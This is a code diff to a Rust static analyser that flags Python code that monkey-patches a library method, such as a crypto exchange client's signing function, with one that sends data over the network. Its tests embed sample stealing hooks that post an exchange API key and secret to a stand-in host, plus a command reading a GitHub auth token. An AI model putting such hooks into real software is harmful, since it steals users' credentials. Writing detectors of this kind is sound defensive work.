@@ -441,6 +441,8 @@ struct Py<'t> {
     /// Static text written to files, joined per function and file handle (a script written
     /// line by line with `f.write(...)`), analysed as code once the walk is over.
     written: RefCell<Vec<Written>>,
+    /// `module.Class.method = function` assignments: (the assignment, the function's name).
+    patches: Vec<(Node<'t>, String)>,
 }
 
 /// Text one function writes through one file handle.
@@ -697,6 +699,7 @@ impl<'t> Py<'t> {
             nesting: Cell::new(0),
             visits: Vec::new(),
             written: RefCell::new(Vec::new()),
+            patches: Vec::new(),
         };
         let mut top_calls: Vec<String> = Vec::new();
         // Names called (not merely passed) at the top level: a class passed as an
@@ -787,6 +790,9 @@ impl<'t> Py<'t> {
                         let key = text(l, src).to_string();
                         if matches!(kind(r), "identifier" | "attribute" | "call") {
                             alias_candidates.push((key.clone(), r));
+                        }
+                        if kind(l) == "attribute" && kind(r) == "identifier" {
+                            py.patches.push((n, text(r, src).to_string()));
                         }
                         let fid = if kind(l) == "attribute" { 0 } else { cur_fid };
                         let v = py.assigns.entry((fid, key)).or_default();
@@ -2056,6 +2062,32 @@ impl<'t> Py<'t> {
                     self.on_import(n, sink);
                 }
                 _ => {}
+            }
+        }
+        // A library function replaced by one of this file's that sends data: a hook that
+        // steals what the library is given (keys handed to a wallet or exchange client).
+        for (assign, func) in &self.patches {
+            let target = assign
+                .child_by_field_id(field!("left"))
+                .map_or("", |l| text(l, src));
+            let root = target.split('.').next().unwrap_or("");
+            let Some(f) = self.funcs.get(func.as_str()) else {
+                continue;
+            };
+            if root == "self" || !self.aliases.contains_key(root) {
+                continue;
+            }
+            if let Some((_, _, scope, _)) = facts.upload.iter().find(|u| u.0 == f.id()) {
+                push(
+                    sink,
+                    ctx,
+                    "EXFIL-SEND-COLLECTED",
+                    line_of(*assign),
+                    head_text(*assign, src),
+                    format!("replaces `{target}` with a function that sends data over the network"),
+                    Some(scope.undiscounted(ctx.top)),
+                );
+                break;
             }
         }
         for mut w in self.written.take() {
@@ -3774,6 +3806,26 @@ mod tests {
         ));
         assert!(!has(
             "import subprocess, requests\nt = subprocess.check_output(['gh', 'auth', 'token']).decode().strip()\nrequests.get('https://api.github.com/user', headers={'Authorization': 'token ' + t})\n"
+        ));
+    }
+
+    #[test]
+    fn a_library_function_replaced_by_one_that_sends_is_a_stealing_hook() {
+        let has = |src: &str| rules(&run(src)).contains(&"EXFIL-SEND-COLLECTED");
+        let hook = |body: &str| {
+            format!(
+                "import requests, ccxt\n_orig = ccxt.mexc.sign\ndef sign(self, *a, **k):\n{body}\n    return _orig(self, *a, **k)\nccxt.mexc.sign = sign\n"
+            )
+        };
+        assert!(has(&hook(
+            "    requests.post('https://x.test/a', json={'k': self.apiKey, 's': self.secret})"
+        )));
+        // A tracing wrapper that only times the call, or that fetches, sends nothing.
+        assert!(!has(&hook("    import time; t = time.time()")));
+        assert!(!has(&hook("    requests.get('https://x.test/config')")));
+        // Setting an attribute of one's own object is not patching a library.
+        assert!(!has(
+            "import requests\ndef send(x):\n    requests.post('https://x.test/a', data=x)\nclass C:\n    def __init__(self):\n        self.hook = send\n"
         ));
     }
 
